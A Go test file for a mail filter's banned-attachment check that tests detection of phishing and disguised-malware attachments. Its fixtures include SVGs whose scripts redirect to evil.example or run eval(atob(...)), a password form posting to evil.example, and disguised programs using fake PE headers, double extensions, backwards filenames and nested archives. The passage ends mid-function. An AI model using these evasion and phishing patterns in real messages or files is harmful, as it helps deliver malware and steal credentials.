package banned

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/postern/postern/filter"
	"github.com/postern/postern/recipients"
	"github.com/postern/postern/scan"
)

// pe is the start of a Windows program: a DOS header whose e_lfanew (0x80)
// points to the PE signature.
func pe() []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	b[0x3c] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	return b
}

type entry struct {
	name      string
	data      []byte
	encrypted bool
}

func zipOf(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, e := range entries {
		if e.encrypted {
			// Written as stored bytes with the "encrypted" flag: the names stay
			// readable in the directory, as in any encrypted ZIP.
			f, err := w.CreateRaw(&zip.FileHeader{Name: e.name, Flags: 0x1, Method: zip.Store,
				CompressedSize64: uint64(len(e.data)), UncompressedSize64: uint64(len(e.data))})
			if err != nil {
				t.Fatal(err)
			}
			f.Write(e.data)
			continue
		}
		f, err := w.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(e.data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// gzipOf is a gzip stream of a few bytes whose header keeps name (none when
// "", as gzip -n writes it); name's bytes are ISO-8859-1, as RFC 1952 has it.
func gzipOf(t testing.TB, name string) []byte {
	t.Helper()
	return gzipWith(t, name, []byte("MZ..."))
}

// gzipWith is gzipOf holding data.
func gzipWith(t testing.TB, name string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Name = name
	if name != "" {
		// gzip.Writer writes Name as Latin-1 from a UTF-8 string.
		var r []rune
		for _, c := range []byte(name) {
			r = append(r, rune(c))
		}
		w.Name = string(r)
	}
	w.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// withPart is a multipart/mixed message with a text part and the attachment
// whose MIME header lines are given, its data base64-encoded.
func withPart(header string, data []byte) string {
	enc := base64.StdEncoding.EncodeToString(data)
	var lines []string
	for len(enc) > 76 {
		lines, enc = append(lines, enc[:76]), enc[76:]
	}
	lines = append(lines, enc)
	return "From: a@example.org\r\nTo: b@example.net\r\nSubject: your invoice\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/plain\r\n\r\nPlease find it attached.\r\n" +
		"--b1\r\n" + header + "Content-Transfer-Encoding: base64\r\n\r\n" + strings.Join(lines, "\r\n") + "\r\n--b1--\r\n"
}

// utf16LE is s in UTF-16, little-endian, after its byte order mark.
func utf16LE(s string) []byte {
	b := []byte{0xff, 0xfe}
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

func attached(name string, data []byte) string {
	return withPart(fmt.Sprintf("Content-Type: application/octet-stream; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\n", name, name), data)
}

func defaults() *Check {
	return &Check{Extensions: DefaultExtensions, Types: DefaultTypes, Executables: true, InsideArchives: true, ActiveSVG: true,
		Reply: "Message rejected: attachment {name} is a file type not accepted here (ref {ref})"}
}

func message(t testing.TB, raw string) *filter.Message {
	t.Helper()
	parsed, err := scan.Parse(strings.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	return &filter.Message{Raw: strings.NewReader(raw), Size: int64(len(raw)), Parsed: parsed}
}

func TestFind(t *testing.T) {
	pdf := []byte("%PDF-1.4\n1 0 obj << >> endobj\n")
	many := make([]entry, 0, 21000) // a directory of more than zipTail
	for i := range cap(many) {
		many = append(many, entry{name: fmt.Sprintf("folder-with-a-long-name/file-%05d-%s.txt", i, strings.Repeat("x", 20))})
	}
	many = append(many, entry{name: "run.exe", data: []byte("x")})
	manyZip := zipOf(t, many...)
	if len(manyZip) <= zipWhole {
		t.Fatalf("the many-names archive is %d bytes, kept whole: make it larger", len(manyZip))
	}
	big := make([]byte, 5<<20) // more than zipWhole before the directory, deflate or not: read from the tail
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range big {
		big[i] = byte(rng.Uint32())
	}
	forwarded := "From: a@example.org\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"o\"\r\n\r\n" +
		"--o\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n" +
		attached("update.scr", []byte("x")) + "\r\n--o--\r\n"

	svg := func(body string) []byte {
		return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">` + body + `</svg>`)
	}
	drawing := svg(`<defs><style>.a{fill:#f00}</style></defs><!-- <script> in a comment --><rect class="a" width="10" height="10"/>` +
		`<a href="https://example.com/"><text x="1" y="8">on=off</text></a><foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">label</div></foreignObject>`)

	tests := []struct {
		name  string
		check func(*Check)
		raw   string
		want  string // Finding.String(), "" for none
	}{
		{"plain text", nil, "From: a@example.org\r\nSubject: hi\r\n\r\nhello\r\n", ""},
		{"a drawing", nil, attached("chart.svg", drawing), ""},
		{"an SVG with script", nil, attached("Invoice.svg", svg(`<script>window.location="https://evil.example/"+atob("eA==")</script>`)),
			`"Invoice.svg": an SVG image with <script>`},
		{"script in a namespace of its own", nil, attached("a.svg", svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script>`)),
			`"a.svg": an SVG image with <script>`},
		{"an event handler", nil, attached("logo.svg", svg(`<image href="x.png" onerror="eval(atob('eA=='))"/>`)),
			`"logo.svg": an SVG image with onerror=`},
		{"an entity-written javascript: link", nil, attached("a.svg", svg(`<a href="&#106;ava&#x09;script:go()"><rect width="9" height="9"/></a>`)),
			`"a.svg": an SVG image with a javascript: link`},
		{"a page in a data: link", nil, attached("a.svg", svg(`<a href="data:text/html;base64,PGgxPg=="><rect width="9" height="9"/></a>`)),
			`"a.svg": an SVG image with a web page in a data: link`},
		{"a login form in a foreignObject", nil, attached("Secure Message.svg", svg(`<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input type="password"/></form></foreignObject>`)),
			`"Secure Message.svg": an SVG image with <form>`},
		{"an SVG by its type, with no name", nil, withPart("Content-Type: image/svg+xml\r\n", svg(`<script>x()</script>`)),
			`"": an SVG image with <script>`},
		{"an SVG by its content, under another name", nil, attached("scan.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>`)),
			`"scan.png": an SVG image with <script>`},
		{"a broken SVG whose script a browser may still read", nil, attached("a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><!-- a -- b --><SCRIPT>x()</SCRIPT></svg>`)),
			`"a.svg": an SVG image with <script>`},
		{"an SVG in UTF-16, by its byte order mark", nil, attached("a.svg", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"><g onload="x()"/></svg>`)),
			`"a.svg": an SVG image with onload=`},
		{"an SVG in a declared 8-bit charset", nil, attached("a.svg", []byte("<?xml version=\"1.0\" encoding=\"windows-1252\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><text>Caf\xe9</text><g onclick=\"x()\"/></svg>")),
			`"a.svg": an SVG image with onclick=`},
		{"an event attribute an animation sets", nil, attached("a.svg", svg(`<rect width="9" height="9"><set attributeName="onmouseover" to="x()"/></rect>`)),
			`"a.svg": an SVG image with an on… attribute set by an animation`},
		{"an animation of a colour", nil, attached("a.svg", svg(`<rect width="9" height="9"><animate attributeName="opacity" values="0;1" dur="1s"/></rect>`)), ""},
		{"a refresh to a page", nil, attached("a.svg", svg(`<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="Refresh" content="0; url=https://login.example/"/></foreignObject>`)),
			`"a.svg": an SVG image with a refresh to another page`},
		{"a script spelt by an entity", nil, attached("a.svg", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "&#60;script&#62;x()&#60;/script&#62;">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`)),
			`"a.svg": an SVG image with script in an entity`},
		{"an event attribute spelt by an entity", nil, attached("a.svg", []byte(`<!DOCTYPE svg [<!ENTITY g "&#60;g onload='x()'/&#62;">]><svg xmlns="http://www.w3.org/2000/svg">&g;</svg>`)),
			`"a.svg": an SVG image with an on… attribute in an entity`},
		{"Illustrator's namespace entities", nil, attached("logo.svg", []byte(`<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [`+
			`<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"><!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/"><!ENTITY ns_svg "http://www.w3.org/2000/svg">]>`+
			`<svg xmlns="&ns_svg;" xmlns:x="&ns_extend;"><rect width="9" height="9"/></svg>`)), ""},
		{"an SVG with script in a ZIP", nil, attached("Remittance.zip", zipOf(t, entry{name: "Remittance/Advice.svg", data: svg(`<script>x()</script>`)})),
			`"Remittance/Advice.svg": an SVG image with <script> (in "Remittance.zip")`},
		{"an SVG with script in a tar in a ZIP", nil, attached("a.zip", zipOf(t, entry{name: "b.tar", data: tarWith(t, "c.svg", svg(`<g onload="x()"/>`))})),
			`"c.svg": an SVG image with onload= (in "a.zip/b.tar")`},
		{"a drawing in a ZIP", nil, attached("charts.zip", zipOf(t, entry{name: "chart.svg", data: drawing}, entry{name: "run.txt"})), ""},
		{"an SVG with script gzipped", nil, attached("Invoice.svg.gz", gzipWith(t, "", svg(`<script>x()</script>`))),
			`"Invoice.svg": an SVG image with <script> (in "Invoice.svg.gz")`},
		{"an SVG with script gzipped, named in the gzip header", nil, attached("scan.gz", gzipWith(t, "Scan.svg", svg(`<g onload="x()"/>`))),
			`"Scan.svg": an SVG image with onload= (in "scan.gz")`},
		{"a compressed SVG image with script", nil, attached("Statement.svgz", gzipWith(t, "", svg(`<script>x()</script>`))),
			`"Statement.svg": an SVG image with <script> (in "Statement.svgz")`},
		{"a drawing gzipped", nil, attached("chart.svg.gz", gzipWith(t, "chart.svg", drawing)), ""},
		{"a ZIP gzipped, a program in it", nil, attached("a.zip.gz", gzipWith(t, "", zipOf(t, entry{name: "run.exe"}))),
			`"run.exe": extension .exe (in "a.zip.gz/a.zip")`},
		{"an encrypted SVG in a ZIP: closed", nil, attached("a.zip", zipOf(t, entry{name: "a.svg", encrypted: true, data: svg(`<script>x()</script>`)})), ""},
		{"active SVG off", func(c *Check) { c.ActiveSVG = false }, attached("Invoice.svg", svg(`<script>x()</script>`)), ""},
		{"a PDF", nil, attached("invoice.pdf", pdf), ""},
		{"a program by its name", nil, attached("invoice.exe", pdf), `"invoice.exe": extension .exe`},
		{"upper case", nil, attached("INVOICE.PDF.JS", pdf), `"INVOICE.PDF.JS": extension .js`},
		{"trailing dots and spaces, which Windows drops", nil, attached("invoice.pdf.scr. .", pdf), `"invoice.pdf.scr. .": extension .scr`},
		{"no extension", nil, attached("README", pdf), ""},
		{"a harmless filename, the program in name=", nil,
			withPart("Content-Type: application/octet-stream; name=\"setup.msi\"\r\nContent-Disposition: attachment; filename=\"notes.pdf\"\r\n", pdf),
			`"setup.msi": extension .msi`},
		{"an RFC 2047 name", nil,
			withPart("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"=?UTF-8?B?UmVjaG51bmfDvC5qcw==?=\"\r\n", pdf),
			`"Rechnungü.js": extension .js`},
		{"an RFC 2231 name", nil,
			withPart("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''rapport%C3%A9.vbs\r\n", pdf),
			`"rapporté.vbs": extension .vbs`},
		{"a file named twice: Go refuses the field, readers take either", nil,
			withPart("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"a.pdf\"; filename=\"a.exe\"\r\n", pdf),
			`"a.exe": extension .exe`},
		{"a field that does not parse, with an RFC 2231 name", nil,
			withPart("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"x.pdf\"; filename*=UTF-8''run%2Ejs; filename=\"y.pdf\"\r\n", pdf),
			`"run.js": extension .js`},
		{"a name twice in a type that does not parse", nil,
			withPart("Content-Type: application/octet-stream; name=\"a.pdf\"; name=\"a.hta\"\r\n", pdf),
			`"a.hta": extension .hta`},
		{"filename= in Content-Type", nil,
			withPart("Content-Type: application/octet-stream; filename=\"a.scr\"\r\n", pdf),
			`"a.scr": extension .scr`},
		{"a name written backwards", nil, attached("invoice\u202efdp.exe", pdf), `"invoice\u202efdp.exe": a name written to read backwards (U+202E)`},
		{"a name text part", nil,
			withPart("Content-Type: text/plain; name=\"start.bat\"\r\n", []byte("@echo off\r\n")), `"start.bat": extension .bat`},
		{"a program's type", nil,
			withPart("Content-Type: application/x-msdownload; name=\"update.bin\"\r\n", pdf), `"update.bin": type application/x-msdownload`},
		{"a program under another name", nil, attached("photo.jpg", pe()), `"photo.jpg": a Windows program`},
		{"a program with no name, not text", nil,
			withPart("Content-Type: application/octet-stream\r\n", pe()), `"": a Windows program`},
		{"text with no name is the message, not a file", nil,
			withPart("Content-Type: text/plain\r\nContent-Disposition: attachment\r\n", pe()), ""},
		{"executables off", func(c *Check) { c.Executables = false }, attached("photo.jpg", pe()), ""},
		{"MZ without a PE header", nil, attached("data.bin", append([]byte("MZ"), pdf...)), ""},
		{"a program in a ZIP", nil, attached("docs.zip", zipOf(t, entry{name: "readme.txt"}, entry{name: "docs/invoice.js", data: []byte("x")})),
			`"docs/invoice.js": extension .js (in "docs.zip")`},
		{"a ZIP named otherwise", nil, attached("scan.pdf", zipOf(t, entry{name: "scan.pdf.exe", data: []byte("x")})),
			`"scan.pdf.exe": extension .exe (in "scan.pdf")`},
		{"a ZIP with a path out of its folder", nil, attached("x.zip", zipOf(t, entry{name: "../../run.exe", data: []byte("x")})),
			`"../../run.exe": extension .exe (in "x.zip")`},
		{"an encrypted ZIP", nil, attached("secure.zip", zipOf(t, entry{name: "payload.exe", data: []byte("0123456789abcdef"), encrypted: true})),
			`"payload.exe": extension .exe (in "secure.zip")`},
		{"a ZIP of documents", nil, attached("report.docx", zipOf(t, entry{name: "word/document.xml", data: []byte("<w/>")}, entry{name: "[Content_Types].xml"})), ""},
		{"a program in a gzip stream, by the name it keeps", nil, attached("rechnung.gz", gzipOf(t, "Rechnung_Mai.pdf.exe")),
			`"Rechnung_Mai.pdf.exe": extension .exe (in "rechnung.gz")`},
		{"a program in a gzip stream, by the name gunzip gives it", nil, attached("order.img.gz", gzipOf(t, "")),
			`"order.img": extension .img (in "order.img.gz")`},
		{"a document in a gzip stream", nil, attached("report.pdf.gz", gzipOf(t, "report.pdf")), ""},
		{"a name in ISO-8859-1", nil, attached("x.gz", gzipOf(t, "r\xe9sum\xe9.js")), `"résumé.js": extension .js (in "x.gz")`},
		{"archives off", func(c *Check) { c.InsideArchives = false }, attached("docs.zip", zipOf(t, entry{name: "invoice.js"})), ""},
		{"a program in a RAR archive", nil, attached("docs.rar", rar5(false, rarEntry{name: "docs/invoice.js", data: []byte("x")})),
			`"docs/invoice.js": extension .js (in "docs.rar")`},
		{"a RAR archive named otherwise", nil, attached("photo.jpg", rar4(rarEntry{name: "setup.exe", data: []byte("x")})),
			`"setup.exe": extension .exe (in "photo.jpg")`},
		{"a RAR 3 name whose Unicode form differs", nil, attached("scan.rar", rar4(rarEntry{name: "scan.pdf|scan.pdf.exe", data: []byte("x")})),
			`"scan.pdf.exe": extension .exe (in "scan.rar")`},
		{"a RAR archive with encrypted headers", nil, attached("secret.rar", rar5(true)), ""},
		{"a large ZIP", nil, attached("photos.zip", zipOf(t, entry{name: "a.bin", data: big}, entry{name: "b.lnk"})), `"b.lnk": extension .lnk (in "photos.zip")`},
		{"a directory larger than what is kept: not listed", nil, attached("many.zip", manyZip), ""},
		{"a broken ZIP", nil, attached("x.zip", []byte("PK\x03\x04 and then nothing of a zip")), ""},
		{"a ZIP in a ZIP", nil, attached("order.zip", zipOf(t, entry{name: "readme.txt"}, entry{name: "files/inner.zip", data: zipOf(t, entry{name: "invoice.js", data: []byte("x")})})),
			`"invoice.js": extension .js (in "order.zip/files/inner.zip")`},
		{"a tar in a ZIP", nil, attached("order.zip", zipOf(t, entry{name: "inner.TAR", data: tarOf(t, "docs/", "docs/run.cmd")})),
			`"docs/run.cmd": extension .cmd (in "order.zip/inner.TAR")`},
		{"a gzip in a ZIP", nil, attached("order.zip", zipOf(t, entry{name: "inner.gz", data: gzipOf(t, "setup.msi")})),
			`"setup.msi": extension .msi (in "order.zip/inner.gz")`},
		{"a RAR in a ZIP", nil, attached("order.zip", zipOf(t, entry{name: "inner.rar", data: rar5(false, rarEntry{name: "a.vbs", data: []byte("x")})})),
			`"a.vbs": extension .vbs (in "order.zip/inner.rar")`},
		{"a ZIP in a tar", nil, attached("order.tar", tarWith(t, "inner.zip", zipOf(t, entry{name: "a.hta", data: []byte("x")}))),
			`"a.hta": extension .hta (in "order.tar/inner.zip")`},
		{"a ZIP in a gzipped tar", nil, attached("order.tgz", gzipped(t, "", tarWith(t, "inner.zip", zipOf(t, entry{name: "a.pif", data: []byte("x")})))),
			`"a.pif": extension .pif (in "order.tgz/inner.zip")`},
		{"a ZIP in a 1 MB ZIP, past its first pieces", nil, attached("order.zip", zipOf(t, entry{name: "a.bin", data: big[:1<<20]}, entry{name: "inner.zip", data: zipOf(t, entry{name: "a.exe", data: []byte("x")})})),
			`"a.exe": extension .exe (in "order.zip/inner.zip")`},
		{"a ZIP in a ZIP in a ZIP", nil,
			attached("order.zip", zipOf(t, entry{name: "one.zip", data: zipOf(t, entry{name: "two.zip", data: zipOf(t, entry{name: "a.exe", data: []byte("x")})})})),
			`"a.exe": extension .exe (in "order.zip/one.zip/two.zip")`},
		{"archives eight deep", nil, attached("order.zip", nestedZips(t, maxDepth-1)), `"a.exe": extension .exe (in "order.zip/1.zip/2.zip/3.zip/4.zip/5.zip/6.zip/7.zip")`},
		{"archives nine deep: deeper than opened", nil, attached("order.zip", nestedZips(t, maxDepth)), ""},
		{"an archive by a name unpackers do not open", nil, attached("order.zip", zipOf(t, entry{name: "inner.dat", data: zipOf(t, entry{name: "a.exe", data: []byte("x")})})), ""},
		{"an encrypted ZIP in a ZIP: closed", nil, attached("order.zip", zipOf(t, entry{name: "inner.zip", encrypted: true, data: zipOf(t, entry{name: "a.exe", data: []byte("x")})})), ""},
		{"a ZIP of documents in a ZIP", nil, attached("order.zip", zipOf(t, entry{name: "inner.zip", data: zipOf(t, entry{name: "a.pdf", data: pdf})})), ""},
		{"a forwarded message's attachment", nil, forwarded, `"update.scr": extension .scr`},
		{"an operator's own list", func(c *Check) { c.Extensions = []string{".DOCM"} }, attached("q3.docm", pdf), `"q3.docm": extension .docm`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := defaults()
			if tc.check != nil {
				tc.check(c)
			}
			f, err := c.Find(context.Background(), message(t, tc.raw))
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			if f != nil {
				got = f.String()
			}
			if got != tc.want {
				t.Errorf("got %s, want %s", got, tc.want)
			}
		})
	}
}

// failing is a spool that fails after its first n bytes.
type failing struct {
	r io.ReaderAt
	n int64
}

func (f failing) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > f.n {
		return 0, errors.New("disk gone")
	}
	return f.r.ReadAt(p, off)
}

// TestVerdict holds the check to what the operator and the sender see: the
// refusal names the file and the quarantine reference, a role account gets
// the message marked, an allow-listed sender is checked all the same, and a
// spool that fails is a tempfail, never an accept.
func TestVerdict(t *testing.T) {
	raw := attached("Invoice 2026.pdf.exe", []byte("x"))
	p := &filter.Pipeline{Checks: []filter.Check{defaults()}, Policy: filter.Policy{
		RequiredScore: 5, RejectScore: 15, Timeout: 10 * time.Second,
		Replies: filter.ReplyTexts{TempFail: "try again later (ref {ref})"},
	}}
	run := func(env *filter.Envelope, r io.ReaderAt) filter.Verdict {
		return p.Run(context.Background(), env, r, int64(len(raw)), "ref123")
	}

	v := run(&filter.Envelope{}, strings.NewReader(raw))
	if v.Action != filter.Reject || v.Reason != filter.ReasonBanned || v.Reply.Code != 550 {
		t.Fatalf("refused: got %s %s %v", v.Action, v.Reason, v.Reply)
	}
	if want := "Message rejected: attachment Invoice 2026.pdf.exe is a file type not accepted here (ref ref123)"; v.Reply.Text != want {
		t.Errorf("reply %q, want %q", v.Reply.Text, want)
	}
	if len(v.Notes) == 0 || !strings.Contains(v.Notes[0], `"Invoice 2026.pdf.exe": extension .exe`) {
		t.Errorf("notes %q", v.Notes)
	}

	v = run(&filter.Envelope{NoReject: true}, strings.NewReader(raw))
	if v.Action != filter.Accept || v.Reason != filter.ReasonBanned || !hasHeader(v, "X-Postern-Banned", `"Invoice 2026.pdf.exe": extension .exe`) {
		t.Errorf("role account: got %s %s, headers %v", v.Action, v.Reason, v.Headers)
	}

	v = run(&filter.Envelope{SkipScoring: true}, strings.NewReader(raw))
	if v.Action != filter.Reject || v.Reason != filter.ReasonBanned {
		t.Errorf("allow-listed: got %s %s", v.Action, v.Reason)
	}

	check := p.Checks[0].(*Check)
	exempt, err := recipients.NewSet([]string{"Analyst@Example.NET", "@it.example.org"})
	if err != nil {
		t.Fatal(err)
	}
	check.ExemptRcpts = exempt
	for _, tc := range []struct {
		rcpts  []string
		action filter.Action
	}{
		{[]string{"user@example.net"}, filter.Reject},
		{[]string{"user@example.net", "<analyst@example.net>"}, filter.Accept},
		{[]string{"helpdesk@IT.example.org"}, filter.Accept},
		{[]string{"helpdesk@sub.it.example.org"}, filter.Reject},
	} {
		v = run(&filter.Envelope{Rcpts: tc.rcpts}, strings.NewReader(raw))
		if v.Action != tc.action || v.Reason != filter.ReasonBanned {
			t.Errorf("exempt recipients, to %v: got %s %s, want %s banned", tc.rcpts, v.Action, v.Reason, tc.action)
		}
		if tc.action == filter.Accept && !hasHeader(v, "X-Postern-Banned", "Invoice 2026.pdf.exe") {
			t.Errorf("exempt recipients, to %v: delivered unmarked: %v", tc.rcpts, v.Headers)
		}
	}
	check.ExemptRcpts = nil

	// A program under another name is found by reading the part: a spool
	// that fails then must not let it through.
	raw = attached("photo.jpg", pe())
	v = run(&filter.Envelope{}, failing{strings.NewReader(raw), int64(len(raw)) - 1})
	if v.Action != filter.TempFail {
		t.Errorf("failing spool: got %s %s", v.Action, v.Reason)
	}
}

func hasHeader(v filter.Verdict, name, has string) bool {
	for _, h := range v.Headers {
		if h.Name == name && strings.Contains(h.Value, has) {
			return true
		}
	}
	return false
}

// TestTail holds the kept end of a stream to the stream's own bytes, however
// it was written.
func TestTail(t *testing.T) {
	src := make([]byte, 10000)
	for i := range src {
		src[i] = byte(i*31 + i>>8)
	}
	for _, keep := range []int{100, 4096, 20000} {
		for _, chunk := range []int{1, 7, 99, 100, 101, 4096, 10000} {
			tl := &tail{buf: make([]byte, 0, keep)}
			for b := src; len(b) > 0; {
				k := min(chunk, len(b))
				tl.Write(b[:k])
				b = b[k:]
			}
			start := max(0, len(src)-keep)
			if _, err := tl.ReadAt(make([]byte, 1), int64(start)-1); start > 0 && !errors.Is(err, errOutsideTail) {
				t.Errorf("keep %d chunk %d: read before the kept end: %v", keep, chunk, err)
			}
			for _, n := range []int{1, 50, keep} {
				for off := start; off < len(src); off += 37 {
					got := make([]byte, n)
					k, err := tl.ReadAt(got, int64(off))
					want := src[off:min(len(src), off+n)]
					if !bytes.Equal(got[:k], want) || (k < n) != (err == io.EOF) {
						t.Fatalf("keep %d chunk %d: ReadAt(%d, %d) = %d, %v; bytes differ: %v", keep, chunk, n, off, k, err, !bytes.Equal(got[:k], want))
					}
				}
			}
		}
	}
}

// TestConcurrent runs one check on messages side by side, as serve does
// (with -race, as the tests run in CI).
func TestConcurrent(t *testing.T) {
	c := defaults()
	m := message(t, attached("a.exe", []byte("x")))
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			f, err := c.Find(context.Background(), m)
			if err == nil && f == nil {
				err = errors.New("not found")
			}
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

// TestZipInsecurePath: with zipinsecurepath=0, archive/zip reads an archive
// whose names leave their folder with an error besides; those names are
// judged all the same.
func TestZipInsecurePath(t *testing.T) {
	t.Setenv("GODEBUG", "zipinsecurepath=0")
	m := message(t, attached("x.zip", zipOf(t, entry{name: "../../run.exe", data: []byte("x")})))
	f, err := defaults().Find(context.Background(), m)
	if err != nil || f == nil || f.Name != "../../run.exe" {
		t.Errorf("got %v, %v", f, err)
	}
}

// TestArchiveSpoolFailure: a spool that fails while an archive is read is the
// check's failure (a tempfail), never an archive that lists nothing: each
// reader passes the spool's ReadError on, and the broken archive's own end
// (io.EOF, a bad header) it does not.
func TestArchiveSpoolFailure(t *testing.T) {
	data := bytes.Repeat([]byte("0123456789abcdef"), 4096)
	spoolGone := &scan.ReadError{Err: errors.New("disk gone")}
	for name, tc := range map[string]struct {
		archive []byte
		list    func(io.Reader) ([]string, error)
	}{
		"zip":         {zipOf(t, entry{name: "a.bin", data: data}, entry{name: "b.txt"}), zipNames},
		"rar":         {rar5(false, rarEntry{name: "a.bin", data: data}, rarEntry{name: "b.txt"}), rarNames},
		"tar":         {tarOf(t, "a.txt", "b.txt"), tarNames},
		"gzipped tar": {gzipped(t, "", tarWith(t, "a.bin", data)), gzipTarNames},
	} {
		t.Run(name, func(t *testing.T) {
			half := tc.archive[:len(tc.archive)/2]
			if _, err := tc.list(io.MultiReader(bytes.NewReader(half), failingReader{spoolGone})); !errors.Is(err, spoolGone) {
				t.Errorf("the spool failing: %v", err)
			}
			if _, err := tc.list(bytes.NewReader(half)); err != nil {
				t.Errorf("the archive cut short: %v", err)
			}
		})
	}
}

// tarWith is a tar archive of one file and its data, then a second file.
func tarWith(t testing.TB, name string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	w.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(data))})
	w.Write(data)
	w.WriteHeader(&tar.Header{Name: "b.txt", Typeflag: tar.TypeReg, Mode: 0o644})
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

type failingReader struct{ err error }

func (f failingReader) Read([]byte) (int, error) { return 0, f.err }

// listOf lists the names an archive reader gives, for the tests of each reader.
func listOf(each func(io.Reader, entryFunc) error) func(io.Reader) ([]string, error) {
	return func(r io.Reader) ([]string, error) {
		var names []string
		err := each(r, func(n string, _ opener) error { names = append(names, n); return nil })
		return names, err
	}
}

var (
	zipNames     = listOf(zipEntries)
	tarNames     = listOf(tarEntries)
	gzipTarNames = listOf(func(r io.Reader, e entryFunc) error {
		budget := int64(maxUnpacked)
		return gzipTarEntries(r, &budget, e)
	})
)

// nestedZips is a ZIP holding 1.zip holding 2.zip … holding n.zip, which holds
// a.exe: n+1 archives deep.
func nestedZips(t *testing.T, n int) []byte {
	z := zipOf(t, entry{name: "a.exe", data: []byte("x")})
	for i := n; i >= 1; i-- {
		z = zipOf(t, entry{name: fmt.Sprintf("%d.zip", i), data: z})
	}
	return z
}

// TestNestedBudget: what archives inside an archive unpack is bounded, over
// all of them: past the budget, the files of an inner archive are not read.
func TestNestedBudget(t *testing.T) {
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	tw.WriteHeader(&tar.Header{Name: "pad.bin", Typeflag: tar.TypeReg, Mode: 0o644, Size: 20000})
	tw.Write(make([]byte, 20000))
	tw.WriteHeader(&tar.Header{Name: "run.exe", Typeflag: tar.TypeReg, Mode: 0o644})
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	outer := zipOf(t, entry{name: "inner.tar", data: tb.Bytes()})
	c := defaults()
	c.once.Do(func() {})
	c.ext = map[string]bool{"exe": true}
	for _, tc := range []struct {
		budget int64
		want   string
	}{
		{1 << 20, `"run.exe": extension .exe (in "order.zip/inner.tar")`},
		{10000, ""}, // run.exe's header lies 20,512 bytes in
	} {
		budget := tc.budget
		f, err := c.inArchive(outer, bytes.NewReader(outer), "order.zip", 1, &budget)
		got := ""
		if f != nil {
			got = f.String()
		}
		if err != nil || got != tc.want {
			t.Errorf("budget %d: %q, %v; want %q", tc.budget, got, err, tc.want)
		}
	}
}

// TestPieces: what fill keeps reads back at every offset, across pieces, and
// a stream longer than the limit is kept up to it and read on from there.
func TestPieces(t *testing.T) {
	src := make([]byte, 3*pieceSize+1234)
	for i := range src {
		src[i] = byte(i * 7 / 3)
	}
	p := &pieces{}
	defer p.release()
	whole, err := p.fill(bytes.NewReader(src), int64(len(src)))
	if err != nil || !whole || p.size != int64(len(src)) {
		t.Fatalf("fill: whole=%v size=%d err=%v", whole, p.size, err)
	}
	for _, c := range []struct{ off, n int }{{0, 10}, {pieceSize - 5, 10}, {pieceSize, pieceSize}, {100, 3 * pieceSize}, {len(src) - 4, 4}} {
		b := make([]byte, c.n)
		if n, err := p.ReadAt(b, int64(c.off)); n != c.n || err != nil || !bytes.Equal(b, src[c.off:c.off+c.n]) {
			t.Errorf("ReadAt(%d, %d): %d %v", c.off, c.n, n, err)
		}
	}
	if n, err := p.ReadAt(make([]byte, 10), int64(len(src)-4)); n != 4 || err != io.EOF {
		t.Errorf("past the end: %d %v", n, err)
	}
	q := &pieces{}
	defer q.release()
	r := bytes.NewReader(src)
